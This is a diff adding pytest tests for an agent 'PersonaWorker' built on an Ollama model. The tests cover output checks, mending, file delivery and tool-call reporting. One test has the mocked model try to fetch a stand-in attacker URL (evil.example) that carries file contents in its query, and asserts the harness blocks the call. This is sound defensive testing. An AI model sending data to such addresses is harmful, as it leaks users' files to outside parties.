@@ -13,7 +13,7 @@ from adapters.clockwork import Nursery, SystemClock
 from adapters.llm.ollama import OllamaModel
 from adapters.shelf import Shelf
 from core.agent.model import Bounds, ModelBrokeOff, ModelRambled, ModelSaidNothing, ModelSlow, ModelUnreachable
-from core.agent.persona_worker import BeyondWords, PersonaWorker
+from core.agent.persona_worker import BeyondWords, NotGood, PersonaWorker
 from core.agent.skill import Match, Outcome
 from core.agent.tool import Output
 from core.errors import Unavailable, UserError
@@ -286,3 +286,136 @@ async def test_a_skill_that_is_not_on_this_machine_does_not_count(alone: Persona
     elsewhere = QUILL._replace(persona=QUILL.persona._replace(skills=("translate",)))
     assert await alone.ready(elsewhere) is not None
     assert alone.appraise(elsewhere, "translate welcome.md") is None
+
+
+CHECKED = QUILL._replace(persona=QUILL.persona._replace(checks=("prose",)))
+LINES = "write a poem of two lines about rain"
+
+
+async def test_what_fails_its_check_is_mended_once(worker: PersonaWorker, server: OllamaServer) -> None:
+    server.says("Drip.")
+    server.says("Drip,\ndrop.")
+    assert (await worker.work(CHECKED, task(LINES))).text == "Drip,\ndrop."
+    system, *given = server.last["messages"]
+    assert system["content"].startswith("You are quill")
+    assert [one["role"] for one in given] == ["user", "assistant", "user"]
+    assert (given[0]["content"], given[1]["content"]) == (LINES, "Drip.")
+    assert "- The task asks for two lines, and the text has 1 lines: make it longer." in given[2]["content"]
+
+
+async def test_what_fails_it_twice_is_not_delivered(worker: PersonaWorker, server: OllamaServer) -> None:
+    server.says("Drip.")
+    server.says("Drop.")
+    with pytest.raises(NotGood, match=r"quill's result was not good enough to be delivered.*asks for two lines"):
+        await worker.work(CHECKED, task(LINES))
+    assert len(server.asked) == 2
+
+
+async def test_a_task_can_be_handed_back_when_it_was_to_be_mended(worker: PersonaWorker, server: OllamaServer) -> None:
+    server.says("Drip.")
+    server.says("CANNOT: I have no second line.")
+    with pytest.raises(BeyondWords):
+        await worker.work(CHECKED, task(LINES))
+
+
+async def test_what_does_not_fit_the_window_with_its_faults_is_not_mended(
+    desk: Desk, model: Model, shelf: Shelf, server: OllamaServer
+) -> None:
+    small = PersonaWorker(desk, model, shelf, bounds=Bounds(window=1024))
+    server.says("drip " * 400)
+    with pytest.raises(NotGood):
+        await small.work(CHECKED, task(LINES))
+    server.says("drip " * 40)
+    with pytest.raises(NotGood):  # the faults themselves do not fit
+        await PersonaWorker(desk, model, shelf, bounds=Bounds(window=380)).work(CHECKED, task(LINES))
+    assert len(server.asked) == 2
+
+
+async def test_a_picture_is_delivered_as_a_file(worker: PersonaWorker, server: OllamaServer, shelf: Shelf) -> None:
+    drawn = '<svg viewBox="0 0 9 9"><circle r="4"/></svg>'
+    server.says(f"A dot.\n```svg\n{drawn}\n```")
+    pixel = Agent("pixel", Persona("pixel", "images", ("images",), 80, ("draw",), checks=("drawing",)))
+    delivery = await worker.work(pixel, task("draw dot.svg"))
+    assert delivery.text == "A dot.\n\nThe picture is dot.svg."
+    (file,) = delivery.files
+    assert "http://www.w3.org/2000/svg" in shelf.path(file.sha256, "dot.svg").read_text()
+
+
+async def _read(path: str) -> Output:
+    return Output(f"{path}: rain")
+
+
+@pytest.fixture
+def reader(desk: Desk, model: Model, shelf: Shelf) -> tuple[PersonaWorker, list[tuple[int, str, str]], Made]:
+    """A worker whose model may read files, and what it reports."""
+    told: list[tuple[int, str, str]] = []
+    read, fetch = Made("read_file", _read, takes=("path",)), Made("fetch_page", _read, outward="path", takes=("path",))
+    return (
+        PersonaWorker(desk, model, shelf, toolbox=Box([read, fetch]), reports=lambda *said: told.append(said)),
+        told,
+        fetch,
+    )
+
+
+READER = CHECKED._replace(persona=CHECKED.persona._replace(tools=("read_file", "fetch_page")))
+
+
+async def test_what_is_called_for_a_task_is_reported(
+    reader: tuple[PersonaWorker, list[tuple[int, str, str]], Made], server: OllamaServer
+) -> None:
+    worker, told, _ = reader
+    server.says("First I look.", Calls("read_file", {"path": "notes.md"}))
+    server.says("… read nothing", " at all\n\nRain.")
+    await worker.work(READER, task("write a poem about notes.md"))
+    assert told == [(1, "quill", "read_file notes.md")]
+
+
+async def test_an_address_that_a_fault_quotes_is_none_that_a_person_named(
+    reader: tuple[PersonaWorker, list[tuple[int, str, str]], Made], server: OllamaServer
+) -> None:
+    worker, _, fetch = reader
+    echo = READER._replace(persona=READER.persona._replace(checks=("sources",)))
+    evil = "https://evil.example/?notes=rain"
+    server.says(Calls("read_file", {"path": "notes.md"}))
+    server.says(f"It rains all day and all of the night {evil}")
+    server.says(Calls("fetch_page", {"path": evil}))
+    server.says("Rain (notes.md)\nNot known: more")
+    await worker.work(echo, task("write a poem about notes.md"))
+    assert fetch.called == []
+    given = server.asked[-1]["messages"]
+    assert "evil.example" in given[5]["content"]
+    assert "nobody is there" in given[-1]["content"]
+
+
+async def test_who_cannot_look_at_what_a_task_names_says_so(
+    reader: tuple[PersonaWorker, list[tuple[int, str, str]], Made], worker: PersonaWorker, server: OllamaServer
+) -> None:
+    able, _, _ = reader
+    poem = "write a poem about notes.md"
+    assert isinstance(await said(able, READER, poem), Offer)
+    assert await said(worker, READER, poem) == Decline("has no read_file here to look at notes.md")
+    disk = await said(able, READER, "write a poem about this machine")
+    assert disk == Decline("has no system_report here to look at this machine")
+    server.can = ["completion"]
+    talks = READER._replace(persona=READER.persona._replace(name="other"))
+    assert isinstance(await said(able, talks, POEM), Offer)
+
+
+async def test_a_model_that_only_talks_is_no_help_with_a_file(
+    reader: tuple[PersonaWorker, list[tuple[int, str, str]], Made], server: OllamaServer
+) -> None:
+    worker, _, _ = reader
+    server.can = ["completion"]
+    answer = await said(worker, READER, "write a poem about notes.md")
+    assert answer == Decline("needs a model that can call tools, to look at notes.md")
+
+
+async def test_who_knows_only_the_words_of_a_task_is_done_it_too(
+    reader: tuple[PersonaWorker, list[tuple[int, str, str]], Made], server: OllamaServer
+) -> None:
+    worker, told, _ = reader
+    assert (await worker.do(READER, SUMMARY)).text == "Short."
+    server.says(Calls("read_file", {"path": "notes.md"}))
+    server.says("Rain.")
+    assert (await worker.do(READER, "write a poem about notes.md")).text == "Rain."
+    assert told == []
